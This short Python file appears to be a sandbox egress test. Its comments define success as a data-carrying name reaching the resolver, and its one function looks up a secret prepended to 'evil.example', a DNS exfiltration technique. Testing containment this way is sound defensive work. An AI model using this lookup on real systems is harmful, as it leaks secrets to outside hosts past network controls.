# class: network
# rule: outbound_connectivity
# success: a name that carries data is asked of the resolver
# proof: query
# needs: resolver
import socket

from attack import SECRET, attempt


@attempt
def ask():
    return socket.getaddrinfo(SECRET + ".evil.example", 443)
